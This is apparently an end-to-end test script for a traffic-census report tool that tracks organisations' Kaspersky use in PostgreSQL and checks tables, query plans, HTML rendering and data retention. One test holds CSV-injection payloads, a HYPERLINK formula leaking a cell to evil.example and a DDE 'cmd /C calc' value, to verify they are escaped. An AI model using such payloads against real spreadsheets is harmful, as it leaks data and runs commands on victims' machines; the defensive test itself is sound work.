#!/usr/bin/env bash
# SPDX-License-Identifier: BSD-3-Clause
# The census report, end to end: tc_census writes eight months of three
# taps' traffic (organisations in four countries and a dozen sectors,
# government bodies among them, each stopping at a drawn date so that the
# removal shares are known in advance) and the report's tables as they must
# come out; three tapcensus processes replay it on the capture's clock into
# a throwaway PostgreSQL cluster (config/census.sql), each session on the
# day it happened (sessions_day equal to the generator's); tapcensus-report,
# connected as an analyst (census_reader), writes the report; every table
# equals the generator's, cell by cell.  The HTML fetches nothing, opens in
# headless Chromium without errors, and each chart's place in the
# screenshot is drawn on; without --operator no government name is in it.
#   report_check.sh TAPCENSUS TC_CENSUS REPORT CONFIG WORKDIR
set -euo pipefail
tc=$(realpath "$1") gen=$(realpath "$2") report=$(realpath "$3") conf=$(realpath "$4")
work=$(realpath -m "$5")
. "$(dirname "$0")/census_sample.sh"
rm -rf "$work"; mkdir -p "$work"
trap pg_stop EXIT
census_sample "$tc" "$gen" "$conf" "$work" || { echo "FAIL the sample census did not load"; exit 1; }
fail=0

# Sessions day by day, summed over the taps: eight months replayed in
# seconds, each session on the day it happened (not the push's), and the
# name-only ones among them (the generator's servers outside the vendor's).
psql -qAt -F, -c "SELECT day, org_id, signal, sessions, name_only_sessions FROM census.sessions_day
                   WHERE vendor = 'kaspersky' AND sessions > 0 ORDER BY 1, 2, 3" > "$work/sessions_day.csv"
if ! diff <(tail -n +2 "$work/gen/sessions_day.csv" | LC_ALL=C sort) <(LC_ALL=C sort "$work/sessions_day.csv") > "$work/sessions_day.diff"; then
    echo "FAIL sessions by day differ from the truth ($(grep -c '^[<>]' "$work/sessions_day.diff") lines):"
    head -4 "$work/sessions_day.diff"; fail=1
fi
[ "$(wc -l < "$work/sessions_day.csv")" -ge 100 ] || { echo "FAIL few session days"; fail=1; }

# The rollups the triggers kept as the taps pushed equal those made again
# from the taps' rows.
differ=$(census_rollups_same)
[ -z "$differ" ] || { echo "FAIL the rollups: $differ"; fail=1; }

# The report's queries use the rollups' primary keys (day or month
# first) and read only the partitions of their days (the day rollup is
# partitioned by month).
plan() { psql -qAt -c "SET enable_seqscan = off" -c "EXPLAIN $1"; }
plan "SELECT org_id, hll_union_agg(sketch) FROM census.org_day_sketch s WHERE s.vendor = 'kaspersky' AND s.day BETWEEN '2024-05-03' AND '2024-05-20' GROUP BY 1" > "$work/plan_day.txt"
grep -q 'Index.* on org_day_sketch_2024_05 ' "$work/plan_day.txt" ||
    { echo "FAIL the day query does not use the May partition's index:"; cat "$work/plan_day.txt"; fail=1; }
! grep -Eq 'org_day_sketch_2024_(0[^5]|1)' "$work/plan_day.txt" ||
    { echo "FAIL the day query reads other months' partitions:"; cat "$work/plan_day.txt"; fail=1; }
plan "SELECT org_id, hll_cardinality(sketch) FROM census.org_month_sketch s WHERE s.vendor = 'kaspersky' AND s.month = ANY('{2024-04-01,2024-05-01}'::date[])" > "$work/plan_month.txt"
grep -Eq 'Index.* using org_month_sketch_pkey' "$work/plan_month.txt" ||
    { echo "FAIL the month query does not use org_month_sketch_pkey:"; cat "$work/plan_month.txt"; fail=1; }
plan "SELECT sum(last_total - first_total) FROM census.sessions s WHERE s.day = '2024-06-11' AND s.tap = 'tap_b'" > "$work/plan_raw.txt"
[ "$(grep -Eo 'sessions_2024_[0-9]{2}' "$work/plan_raw.txt" | sort -u)" = sessions_2024_06 ] ||
    { echo "FAIL a day of the taps' sessions reads other partitions:"; cat "$work/plan_raw.txt"; fail=1; }

# The report, as an analyst (read only), for the options the truth is for.
read -r -a opts < "$work/gen/args"
db="host=$PGHOST port=$PGPORT dbname=postgres user=analyst"
"$report" --db "$db" "${opts[@]}" --config "$conf" --out "$work/public" > "$work/public.out" ||
    { echo "FAIL tapcensus-report exited $?"; exit 1; }
"$report" --db "$db" "${opts[@]}" --config "$conf" --operator --out "$work/operator" \
    > "$work/operator.out" || { echo "FAIL tapcensus-report --operator exited $?"; exit 1; }
"$report" --db "$db" "${opts[@]}" --taps tap_b --out "$work/tap_b" > /dev/null ||
    { echo "FAIL tapcensus-report --taps tap_b exited $?"; exit 1; }
diff <(grep -E '^(tap,|tap_b,)' "$work/gen/truth/6-coverage.csv") "$work/tap_b/6-coverage.csv" > /dev/null ||
    { echo "FAIL --taps tap_b: the coverage is not tap_b's alone"; fail=1; }
[ "$(cat "$work/public.out")" = "$work/public/report.html" ] ||
    { echo "FAIL the report's path is not printed: $(cat "$work/public.out")"; fail=1; }

# Bad options and configuration: told, with the option or file:line: field.
expect_refusal() { # WANT_IN_STDERR, then the report's arguments
    local want=$1 rc=0
    shift
    "$report" --db "$db" --out "$work/bad" "$@" > /dev/null 2> "$work/bad.err" || rc=$?
    if [ "$rc" != 2 ] || ! grep -qF -- "$want" "$work/bad.err"; then
        echo "FAIL $*: exit $rc, want 2 and '$want'; said: $(cat "$work/bad.err")"; fail=1
    fi
}
sed 's/- {date: 2024-09-29, label: "ban in force"}/- {date: 2024-09-31, label: x}/' "$conf" > "$work/bad.yaml"
line=$(grep -n '2024-09-31' "$work/bad.yaml" | cut -d: -f1)
expect_refusal "$work/bad.yaml:$line: report.events[1].date: '2024-09-31': no such day" \
    "${opts[@]}" --config "$work/bad.yaml"
expect_refusal "--period-a: '2024-04-30:2024-04-01' ends before it begins" \
    --from 2024-04-01 --to 2024-11-30 --period-a 2024-04-30:2024-04-01 --period-b 2024-11-01:2024-11-30
expect_refusal "--from: 'April' is not a day (YYYY-MM-DD)" \
    --from April --to 2024-11-30 --period-a 2024-04-01:2024-04-30 --period-b 2024-11-01:2024-11-30
[ ! -e "$work/bad" ] || { echo "FAIL a refused report wrote $work/bad"; fail=1; }

# A name that a spreadsheet would run as a formula is written as text
# (OWASP "CSV Injection"); numbers and plain names are left as they are.
/usr/bin/python3 - "$report" <<'EOF' || fail=1
import importlib.machinery, sys
m = importlib.machinery.SourceFileLoader("report", sys.argv[1]).load_module()
rows = [('=HYPERLINK("http://evil.example/?leak="&A1,"x")', '\'=HYPERLINK("http://evil.example/?leak="&A1,"x")'),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"), ("=1", "'=1"),
        ("+1", "'+1"), ("-1", "'-1"), ("\tx", "'\tx"), ("Acme Bank", "Acme Bank"), (-1, -1), (93.8, 93.8)]
bad = [(i, m.csv_cell(i), w) for i, w in rows if m.csv_cell(i) != w]
for i, g, w in bad:
    print(f"FAIL csv_cell({i!r}) = {g!r}, want {w!r}")
sys.exit(1 if bad else 0)
EOF

# Every table, cell by cell.
/usr/bin/python3 - "$work/gen/truth" "$work/operator" "$work/public" <<'EOF' || fail=1
import csv, os, sys
truth, got, public = sys.argv[1:4]
bad = 0
cells = 0
for name in sorted(os.listdir(truth)):
    want = list(csv.reader(open(os.path.join(truth, name))))
    path = os.path.join(got, name)
    if not os.path.exists(path):
        print(f"FAIL {name}: not written"); bad = 1; continue
    have = list(csv.reader(open(path)))
    if len(want) < 2:
        print(f"FAIL {name}: the truth has no rows"); bad = 1
    if len(want) != len(have):
        print(f"FAIL {name}: {len(have) - 1} rows, want {len(want) - 1}"); bad = 1
    for r, (w, h) in enumerate(zip(want, have)):
        if w != h:
            print(f"FAIL {name} row {r}: {h}, want {w}"); bad = 1; break
        cells += len(w)
# The public variant: the same tables but the names.
for name in sorted(os.listdir(truth)):
    p = os.path.join(public, name)
    if name == "5-government-names.csv":
        if os.path.exists(p):
            print("FAIL the public report lists government names"); bad = 1
    elif open(p).read() != open(os.path.join(got, name)).read():
        print(f"FAIL {name}: the public variant differs"); bad = 1
names = [r[2] for r in csv.reader(open(os.path.join(truth, "5-government-names.csv")))][1:]
html = open(os.path.join(public, "report.html")).read()
for n in names:
    if n in html:
        print(f"FAIL the public report names {n}"); bad = 1
if not names or not all(n in open(os.path.join(got, "report.html")).read() for n in names):
    print("FAIL the operator's report does not name the government organisations"); bad = 1
# The figures in the text: the lead sentence, the sketches' bounds.
us = [r for r in csv.reader(open(os.path.join(truth, "3-removal-country.csv"))) if r[0] == "US"][0]
gov = [r for r in csv.reader(open(os.path.join(truth, "5-government.csv"))) if r[0] == "US"][0]
lead = (f"In US, {us[2]} of the {us[1]} organisations active in period A ({us[3]}%) were no "
        f"longer seen in period B; {gov[2]} government organisation")
for want in (lead, "up to 160 clients exactly, more within about 2.3% (one standard error; "
             "log2m 11, regwidth 5)"):
    if want not in html:
        print(f"FAIL the report does not say: {want}"); bad = 1
print(f"report: {len(os.listdir(truth))} tables, {cells} cells equal to the truth")
sys.exit(bad)
EOF

# Self-contained: no script, no stylesheet or image fetched.
html=$work/operator/report.html
fetch='<script|<link|<img|<iframe|<object|<embed|src=|@import|url\([^#]|href="[^#]'
if grep -Eiq "$fetch" "$html"; then
    echo "FAIL the report fetches something:"; grep -Eio ".{0,30}($fetch).{0,30}" "$html" | head -3; fail=1
fi
for n in 1 2 3a 3b 4 5; do
    grep -q "id=\"chart-$n\"><svg" "$html" || { echo "FAIL chart $n is not an inline SVG"; fail=1; }
done
grep -q 'ban in force' "$html" || { echo "FAIL the configured event is not marked"; fail=1; }
# The method states what each role rests on, as the catalogue grades it
# (config/vendors/kaspersky.yaml: KSN's names come from third parties).
for want in '<td>reputation</td><td>reported</td>' '<td>update</td><td>documented</td>' \
            '<td>other</td><td>unsourced</td>' '<td>web</td><td>documented</td><td>ACD</td><td>no</td>'; do
    grep -qF "$want" "$html" || { echo "FAIL the method's catalogue lacks $want"; fail=1; }
done

# In headless Chromium: where each chart is (a copy that measures itself),
# then the page's screenshot, drawn on where each chart is.
chromium=$(command -v chromium || true)
if [ -z "$chromium" ]; then
    echo "FAIL chromium is not installed (setup.sh installs it)"; exit 1
fi
cro=(--headless=new --no-sandbox --disable-gpu --hide-scrollbars --window-size=1200,8000
     --user-data-dir="$work/chromium" --no-first-run --disable-extensions
     --force-device-scale-factor=1)
sed 's|</body>|<script>document.body.insertAdjacentHTML("beforeend", "<pre id=rects>" + JSON.stringify([...document.querySelectorAll("figure.chart")].map(f => { const r = f.getBoundingClientRect(); return [f.id, r.left, r.top, r.width, r.height]; })) + "</pre>");</script></body>|' \
    "$html" > "$work/measure.html"
timeout 120 "$chromium" "${cro[@]}" --dump-dom "file://$work/measure.html" > "$work/dom.html" \
    2> "$work/chromium-dom.err" || { echo "FAIL chromium --dump-dom exited $?"; tail -5 "$work/chromium-dom.err"; fail=1; }
timeout 120 "$chromium" "${cro[@]}" --enable-logging=stderr --v=0 \
    --screenshot="$work/report.png" "file://$html" > /dev/null 2> "$work/chromium.err" ||
    { echo "FAIL chromium --screenshot exited $?"; tail -5 "$work/chromium.err"; fail=1; }
if grep -E 'CONSOLE|Uncaught|Failed to load|net::ERR' "$work/chromium.err" | grep -q .; then
    echo "FAIL the page logs errors:"; grep -E 'CONSOLE|Uncaught|Failed to load|net::ERR' "$work/chromium.err" | head -3; fail=1
fi
/usr/bin/python3 - "$work/dom.html" "$work/report.png" <<'EOF' || fail=1
import json, re, sys
from PIL import Image
dom, png = sys.argv[1:3]
m = re.search(r'<pre id="rects">(.*?)</pre>', open(dom).read(), re.S)
if not m:
    print("FAIL the page did not measure its charts"); sys.exit(1)
rects = json.loads(m.group(1).replace("&quot;", '"'))
img = Image.open(png).convert("RGB")
bad = 0
if len(rects) != 6:
    print(f"FAIL {len(rects)} charts on the page, want 6"); bad = 1
for fid, x, y, w, h in rects:
    if w < 200 or h < 100 or y + h > img.height:
        print(f"FAIL {fid}: {w:.0f}x{h:.0f} at {y:.0f} (screenshot {img.height} high)"); bad = 1; continue
    box = img.crop((int(x), int(y), int(x + w), int(y + h)))
    colours = box.getcolors(1 << 20) or []
    inked = sum(n for n, c in colours if sum(c) < 600)
    share = inked / (box.width * box.height)
    if len(colours) < 8 or share < 0.01:
        print(f"FAIL {fid} is blank in the screenshot ({len(colours)} colours, {share:.3%} ink)"); bad = 1
    # Outside the charts, the page's margin right of the text is white.
edge = img.crop((img.width - 20, 0, img.width, min(img.height, 2000))).getcolors(1 << 16)
if not edge or len(edge) != 1:
    print("FAIL the page's right margin is not plain (the layout broke)"); bad = 1
print(f"report: {len(rects)} charts drawn in the screenshot")
sys.exit(bad)
EOF

# Retention: April retired leaves its rows in a detached table to archive
# (census.client_sketch_2024_04), none in the census, its month rollups
# and coverage gone, every other month as it was.
q() { psql -qAt -v ON_ERROR_STOP=1 -F ' ' -c "$1"; }
april=$(q "SELECT count(*) FROM census.client_sketch WHERE day < '2024-05-01'")
may=$(q "SELECT count(*) || ' ' || sum(hll_cardinality(sketch))::bigint FROM census.org_month_sketch WHERE month = '2024-05-01'")
[ "$april" -ge 100 ] || { echo "FAIL only $april April sketches to retire"; fail=1; }
retired=$(q "SELECT string_agg(t, ',' ORDER BY t) FROM census.retire_month('2024-04-17') t")
[ "$retired" = census.client_sketch_2024_04,census.org_day_sessions_2024_04,census.org_day_sketch_2024_04,census.sessions_2024_04 ] ||
    { echo "FAIL retire_month detached '$retired'"; fail=1; }
[ "$(q "SELECT count(*) FROM census.client_sketch WHERE day < '2024-05-01'") $(q "SELECT count(*) FROM census.client_sketch_2024_04")" = "0 $april" ] ||
    { echo "FAIL after retiring April the census or the detached table is wrong"; fail=1; }
[ "$(q "SELECT count(*) FROM census.org_month_sketch WHERE month = '2024-04-01'") $(q "SELECT count(*) FROM census.tap_day WHERE day < '2024-05-01'")" = "0 0" ] ||
    { echo "FAIL April's month rollup or coverage survived its retirement"; fail=1; }
[ "$(q "SELECT count(*) || ' ' || sum(hll_cardinality(sketch))::bigint FROM census.org_month_sketch WHERE month = '2024-05-01'")" = "$may" ] ||
    { echo "FAIL retiring April changed May"; fail=1; }
exit "$fail"
